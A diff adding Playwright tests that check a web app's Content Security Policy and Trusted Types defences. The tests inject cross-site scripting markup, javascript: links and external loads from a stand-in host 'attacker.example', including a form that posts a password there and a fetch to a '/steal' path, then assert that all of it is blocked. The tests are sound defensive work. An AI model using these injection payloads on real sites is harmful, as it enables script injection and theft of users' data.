@@ -1,0 +1,215 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page, Route } from '@playwright/test'
+import { browserOf } from '../../server/browser.ts'
+import { readConfig } from '../../server/config.ts'
+import { emulator } from './accounts.ts'
+import { expect, test, underPolicy, withConfig } from './fixtures.ts'
+
+const attacker = 'https://attacker.example'
+
+/** A site that answers everything to everybody; tells what it was asked for. */
+async function openAttacker(page: Page) {
+  const asked: string[] = []
+  await page.context().route(`${attacker}/**`, (route) => {
+    asked.push(route.request().url())
+    return route.fulfill({ contentType: 'text/html', headers: { 'access-control-allow-origin': '*' }, body: 'window.ran = "a script from elsewhere"' })
+  })
+  return asked
+}
+
+/** Which directives the browser enforced so far; the page has to be opened after it. */
+async function listen(page: Page) {
+  await page.addInitScript(() => {
+    const seen: string[] = []
+    Object.assign(window, { seen })
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))
+  })
+  return () => page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)].sort())
+}
+
+const ran = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string }).ran ?? 'nothing')
+
+/** Markup as an attacker would have it in a page, with whatever runs, looks, loads or sends by itself. */
+const injected = `
+  <base href="${attacker}/">
+  <script>window.ran = 'an inline script'</script>
+  <script type="module">window.ran = 'an inline module'</script>
+  <script src="${attacker}/a.js"></script>
+  <script src="data:text/javascript,window.ran = 'a script in an address'"></script>
+  <img src="data:," alt="" onerror="window.ran = 'a handler'">
+  <img src="${attacker}/pixel.png" alt="">
+  <style>body { outline: 9px solid red }</style>
+  <link rel="stylesheet" href="${attacker}/a.css">
+  <p id="styled" style="position: fixed">over everything</p>
+  <iframe src="${attacker}/frame"></iframe>
+  <iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
+  <object data="${attacker}/object"></object>
+  <video src="${attacker}/film.mp4"></video>
+  <a id="link" href="javascript:window.ran = 'a javascript: link'">Free pizza</a>
+  <form id="form" action="${attacker}/form" method="post"><input name="password" value="secret"></form>`
+
+/** What stops each of them. */
+const enforced = [
+  ...['base-uri', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src'],
+  ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'],
+]
+
+const pages = ['/', '/lounge', '/graphql', '/api/docs']
+
+for (const path of pages)
+  test(`markup that got into ${path} runs nothing, looks like nothing, frames nothing and sends nothing away`, async ({ page, expectError }) => {
+    expectError(/./)
+    const asked = await openAttacker(page)
+    const violated = await listen(page)
+    // The page alone: the sandbox asks its own address for data, too.
+    const inject = async (route: Route) => {
+      const response = await route.fetch()
+      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injected}</body>`) })
+    }
+    await page.route(path, inject, { times: 1 })
+    await page.goto(path)
+    await page.evaluate(() => document.getElementById('link')?.click())
+    await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit())
+    await expect.poll(() => violated()).toEqual(enforced)
+    expect(await ran(page)).toBe('nothing')
+    const looks = () => [getComputedStyle(document.body).outlineStyle, getComputedStyle(document.getElementById('styled') ?? document.body).position]
+    expect(await page.evaluate(looks)).toEqual(['none', 'static'])
+    expect(asked).toEqual([])
+  })
+
+/** What a script could do with a text that it should not have taken for markup, code or an address. */
+const attempts = (site: string) =>
+  new Promise<Record<string, string>>((done) => {
+    const script = () => document.body.appendChild(document.createElement('script'))
+    const cases: Record<string, () => unknown> = {
+      // biome-ignore lint/security/noGlobalEval: whether it runs is the question
+      eval: () => window.eval('window.ran = "eval"'),
+      Function: () => new Function('window.ran = "Function"')(),
+      innerHTML: () => {
+        document.body.innerHTML = '<p>x</p>'
+      },
+      outerHTML: () => {
+        document.body.outerHTML = '<p>x</p>'
+      },
+      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
+      'document.write': () => document.write('<p>x</p>'),
+      parseFromString: () => new DOMParser().parseFromString('<p>x</p>', 'text/html'),
+      createContextualFragment: () => document.createRange().createContextualFragment('<p>x</p>'),
+      srcdoc: () => {
+        document.createElement('iframe').srcdoc = '<p>x</p>'
+      },
+      'text of a script': () => {
+        script().text = 'window.ran = "text"'
+      },
+      'address of a script': () => {
+        script().src = '/assets/x.js'
+      },
+      'handler by attribute': () => document.body.setAttribute('onclick', 'window.ran = "handler"'),
+      'a policy of its own': () => (window as any).trustedTypes.createPolicy('anything', { createHTML: (html: string) => html }),
+      'a second policy of that name': () => (window as any).trustedTypes.createPolicy('default', { createHTML: (html: string) => html }),
+      worker: () => new Worker(URL.createObjectURL(new Blob(['']))),
+      fetch: () => fetch(`${site}/steal`),
+      import: () => import(`${site}/a.js`),
+    }
+    // In a task of its own: what runs while the test's own script is evaluated may use eval.
+    setTimeout(async () => {
+      const outcome: Record<string, string> = {}
+      for (const [name, attempt] of Object.entries(cases)) {
+        try {
+          await attempt()
+          outcome[name] = 'went through'
+        } catch (error) {
+          outcome[name] = (error as Error).name
+        }
+      }
+      done(outcome)
+    })
+  })
+
+test('in the app no text becomes markup or code, and nothing goes elsewhere', async ({ page, expectError }) => {
+  expectError(/./)
+  const asked = await openAttacker(page)
+  await page.goto('/lounge')
+  await expect(page.getByRole('article').first()).toBeVisible()
+  const outcome = await page.evaluate(attempts, attacker)
+  expect(outcome).toEqual({
+    ...Object.fromEntries(Object.keys(outcome).map((name) => [name, 'TypeError'])),
+    eval: 'EvalError',
+    Function: 'EvalError',
+  })
+  expect(Object.keys(outcome)).toHaveLength(17)
+  expect(await ran(page)).toBe('nothing')
+  expect(asked).toEqual([])
+  await expect(page.getByRole('article').first()).toBeVisible()
+})
+
+test('on the pages that show markup of others it is cleaned, or refused', async ({ page, expectError }) => {
+  expectError(/TrustedHTML|Trusted Type/)
+  const hostile = '<p>plain</p><img src="data:," onerror="window.ran = 1"><a href="javascript:x">link</a>'
+  const shown = (html: string) => {
+    const element = document.createElement('div')
+    try {
+      element.innerHTML = html
+    } catch (error) {
+      return (error as Error).name
+    }
+    return element.innerHTML
+  }
+  await page.goto('/graphql')
+  expect(await page.evaluate(shown, hostile)).toBe('<p>plain</p><img src="data:,"><a>link</a>')
+  await page.goto('/api/docs')
+  await expect(page.locator('.opblock').first()).toBeVisible()
+  expect(await page.evaluate(shown, hostile)).toBe('TypeError')
+  expect(await page.evaluate(shown, '<p><code>plain</code></p>')).toBe('<p><code>plain</code></p>')
+})
+
+test('nobody frames the app', async ({ page, expectError, baseURL }) => {
+  expectError(/frame/i)
+  // A real site, since the browser keeps what is only made up from this machine's own addresses.
+  const site = createServer((request, response) => {
+    const framed = new URL(request.url ?? '', 'http://site').searchParams.get('frame')
+    response.setHeader('Content-Type', 'text/html').end(framed ? `<iframe src="${framed}"></iframe>` : 'unguarded')
+  }).listen(0, '127.0.0.1')
+  await once(site, 'listening')
+  const address = `http://127.0.0.1:${(site.address() as AddressInfo).port}/`
+  const expectFramed = async (url: string, shown: string) => {
+    await page.goto(`${address}?frame=${encodeURIComponent(url)}`)
+    await expect.poll(() => page.frames()[1]?.url(), url).toBe(shown)
+  }
+  await expectFramed(`${address}alone`, `${address}alone`)
+  for (const path of [...pages, '/api/openapi.json']) await expectFramed(baseURL + path, 'chrome-error://chromewebdata/')
+  site.closeAllConnections()
+  site.close()
+})
+
+test("the provider's window gets its script, and nobody else's", async ({ page, expectError }) => {
+  expectError(/./)
+  const asked = await openAttacker(page)
+  const project = { FIREBASE_PROJECT_ID: 'demo-thinnai', FIREBASE_API_KEY: 'demo-key', GOOGLE_SIGN_IN: 'on' }
+  await withConfig(page, { googleSignIn: true })
+  await underPolicy(page, '/login', browserOf(readConfig(project), new URL(emulator).host).policies.app)
+  // As the real one does, it has a policy of its own by which it loads the next.
+  const first = `const { createScriptURL } = { createScriptURL: (url) => url }
+    const own = trustedTypes.createPolicy('gapi#gapi', { createScriptURL })
+    const next = document.createElement('script')
+    next.src = own.createScriptURL('https://apis.google.com/_/next.js')
+    document.head.append(next)`
+  await page.route('https://apis.google.com/**', (route) =>
+    route.fulfill({ contentType: 'text/javascript', body: route.request().url().includes('api.js') ? first : "window.ran = 'the second script'" }),
+  )
+  await page.goto('/login')
+  await page.getByRole('button', { name: 'Continue with Google' }).click()
+  await expect.poll(() => ran(page)).toBe('the second script')
+  const refused = await page.evaluate((url) => {
+    try {
+      document.createElement('script').src = url
+      return 'taken'
+    } catch (error) {
+      return (error as Error).name
+    }
+  }, `${attacker}/a.js`)
+  expect(refused).not.toBe('taken')
+  expect(asked).toEqual([])
+})
